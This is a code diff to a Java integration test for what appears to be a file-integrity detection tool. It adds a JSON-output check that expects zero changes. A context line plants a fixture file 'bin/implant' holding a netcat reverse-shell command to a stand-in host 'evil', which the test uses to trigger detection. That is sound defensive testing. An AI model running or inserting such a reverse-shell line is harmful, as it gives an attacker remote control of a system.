@@ -207,6 +207,12 @@ class DetectionIT {
                 + palisade.controlPlane().httpsPort(), "--report", "--host", "gw-1", "--respond", "quarantine",
                 "--quarantine-dir", dir.resolve("fim-quarantine").toString()};
         assertThat(Cli.run(check).exitCode()).isZero();
+        String[] checkJson = java.util.Arrays.copyOf(check, check.length + 1);
+        checkJson[check.length] = "--json";
+        Cli.Result unchanged = Cli.run(checkJson);
+        assertThat(unchanged.exitCode()).as(unchanged.out() + unchanged.err()).isZero();
+        assertThat(new com.fasterxml.jackson.databind.ObjectMapper().readTree(unchanged.out()).path("changes").asInt(-1))
+                .as(unchanged.out()).isZero();
 
         java.nio.file.Files.writeString(tree.resolve("bin/implant"), "#!/bin/sh\nnc -e /bin/sh evil 4444\n");
         Cli.Result changed = Cli.run(check);
